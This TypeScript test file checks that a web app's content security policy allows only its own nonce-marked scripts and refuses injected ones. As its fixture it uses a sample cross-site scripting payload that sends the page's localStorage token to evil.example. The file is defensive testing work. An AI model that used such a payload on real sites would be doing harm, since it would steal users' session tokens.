import { expect, test } from "vitest";
import { contentPolicy } from "../../platform/http/security-headers.server.ts";
import { newScriptMark, scriptHash, takeScriptMarks } from "./script-hashes.server.ts";

const mark = newScriptMark();
const foreign = "location = 'https://evil.example/?' + localStorage.token";
const page = `<html><head><script nonce="${mark}">own()</script><link rel="modulepreload" href="/a.js" nonce="${mark}"/></head>
<body><p>Injected: <script>${foreign}</script><script nonce="guessed">${foreign}</script><script nonce="">${foreign}</script></p>
<script type="application/json" nonce="${mark}">{"a":1}</script><script nonce="${mark}" src="/b.js"></script>
<script nonce="${mark}" type="module" async="">import "/c.js"</script></body></html>`;

test("the content policy allows the program's own scripts and no injected one", () => {
  const { html, hashes } = takeScriptMarks(page, mark);
  expect(hashes).toEqual([scriptHash("own()"), scriptHash('import "/c.js"')]);
  expect(html).not.toContain(mark);
  expect(html).toContain(`<script>${foreign}</script>`);
  const policy = contentPolicy(hashes, "https://club.example");
  expect(policy).not.toContain(scriptHash(foreign));
  expect(policy).toMatch(/script-src 'self'( 'sha256-[\w+/=]{44}'){2};/);
  const inPage = [...html.matchAll(/<script(?![^>]*(?:src=|json|plain|nonce))[^>]*>([\s\S]*?)<\/script>/g)];
  const refused = inPage.map(([, code = ""]) => code).filter((code) => !policy.includes(scriptHash(code)));
  expect(refused).toEqual([foreign]);
});

test("a page without scripts allows none, and every page has its own mark", () => {
  expect(takeScriptMarks("<p>Hello</p>", mark)).toEqual({ html: "<p>Hello</p>", hashes: [] });
  expect(contentPolicy([], "http://localhost")).toContain("script-src 'self';");
  expect(newScriptMark()).not.toBe(mark);
});
